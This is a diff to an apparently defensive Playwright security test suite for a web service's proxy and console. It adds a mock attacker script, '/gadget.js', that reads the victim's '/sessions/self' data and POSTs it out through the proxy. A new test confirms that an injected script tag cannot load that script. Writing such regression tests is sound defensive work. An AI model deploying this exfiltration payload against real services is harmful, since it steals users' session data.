@@ -79,7 +79,13 @@ describe('attack: a proxied page run on the service’s origin steals a signed-i
     expect(proxy.status, JSON.stringify(proxy.body)).toBe(201);
     proxyKey = proxy.body.key;
     attackerSite.answer((request, res) => {
-      if (request.url.startsWith('/invoice')) {
+      if (request.url.startsWith('/gadget.js')) {
+        res.writeHead(200, { 'content-type': 'text/javascript' });
+        // The console's CSP lets it talk to its own origin only: the proxy is on it.
+        res.end(
+          `fetch('/sessions/self').then((a) => a.text()).then((t) => fetch('/proxy/from-console?svc-proxy-key=${proxyKey}', { method: 'POST', body: t }));`,
+        );
+      } else if (request.url.startsWith('/invoice')) {
         res.writeHead(200, {
           'content-type': 'text/html; charset=utf-8',
           'set-cookie': 'planted=by-the-attacker; Path=/',
@@ -137,5 +143,24 @@ describe('attack: a proxied page run on the service’s origin steals a signed-i
       .toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
     expect.soft(headers['x-content-type-options']).toBe('nosniff');
     expect.soft(headers['set-cookie']).toBeUndefined();
+  });
+
+  it('an HTML injection in the console cannot load the attacker’s proxied script: /proxy is never a script of a page', async () => {
+    await page.goto(`${stack.url}/console`);
+    await page.getByRole('button', { name: `Sign out ${victimEmail}` }).waitFor();
+    attackerSite.received.length = 0;
+    // What an injected <script src> would do: the console's CSP allows scripts of its own origin.
+    const loaded = await page.evaluate<string>(
+      `new Promise((resolve) => {
+        const script = document.createElement('script');
+        script.src = '/proxy/gadget.js?svc-proxy-key=${proxyKey}';
+        script.onload = () => resolve('loaded');
+        script.onerror = () => resolve('refused');
+        document.head.append(script);
+      })`,
+    );
+    await page.waitForTimeout(2_000);
+    expect.soft(attackerSite.received.map((request) => request.url.split('?')[0])).toEqual([]);
+    expect(loaded).toBe('refused');
   });
 });
